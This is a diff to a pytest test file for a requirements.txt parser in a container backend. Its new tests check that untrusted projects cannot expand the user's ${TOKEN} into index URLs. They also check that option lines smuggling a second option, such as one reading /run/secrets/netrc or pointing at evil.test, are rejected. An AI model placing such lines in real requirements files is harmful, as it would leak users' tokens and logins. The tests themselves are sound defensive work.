@@ -8,16 +8,19 @@ import pytest
 
 from container_backend.environment.declared import Line
 from container_backend.environment.requirements import lines_of, read_requirements
-from container_backend.errors import InvalidEnvironment
+from container_backend.errors import InvalidEnvironment, InvalidProject
+from container_backend.privileges import Giver, Permissions
+from tests.support.projects import TRUSTED_FOLDER
 
 if TYPE_CHECKING:
     from pathlib import Path
 
 
-def read(root: Path, text: str, **environ: str):
+def read(root: Path, text: str, permissions=TRUSTED_FOLDER, **environ: str):
     file = root / "requirements.txt"
     file.write_text(text, encoding="utf-8")
-    return read_requirements([Line("-r requirements.txt", root / "MLproject", 1)], root, environ)
+    lines = [Line("-r requirements.txt", root / "MLproject", 1)]
+    return read_requirements(lines, root, permissions, environ)
 
 
 def texts(lines) -> list[str]:
@@ -144,3 +147,32 @@ def test_what_cannot_be_read_is_said_with_file_and_line(tmp_path, line, message)
 def test_line_numbers_of_continued_lines_are_those_of_their_beginning(tmp_path):
     lines = list(lines_of(tmp_path / "x", "a\nb \\\n==1\nc\n"))
     assert [(line.text, line.number) for line in lines] == [("a", 1), ("b ==1", 2), ("c", 4)]
+
+
+@pytest.mark.parametrize("giver", [Giver.OWN, Giver.FETCHED, Giver.RECORD])
+@pytest.mark.parametrize(
+    "line", ["-i https://one.test/${TOKEN}", "x @ https://one.test/${TOKEN}.whl"]
+)
+def test_variables_of_the_user_are_for_trusted_projects_alone(tmp_path, giver, line):
+    with pytest.raises(
+        InvalidProject, match=r"requirements\.txt, line 1.* TOKEN of your environment"
+    ):
+        read(tmp_path, line, Permissions(giver), TOKEN="abc")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--require-hashes -r /run/secrets/netrc",
+        "--pre https://evil.test/r.txt",
+        "--no-binary :all: -r x",
+        "--only-binary=six\t-r x",
+    ],
+)
+def test_nothing_follows_an_option_that_the_installer_would_read_as_another(tmp_path, line):
+    """It would print the user's logins."""
+    with pytest.raises(InvalidEnvironment, match=r"cannot follow|control characters"):
+        read(tmp_path, line)
+    assert texts(read(tmp_path, "--no-binary six, numpy\n--pre\n").requirements) == [
+        "--no-binary six, numpy", "--pre",
+    ]  # fmt: skip
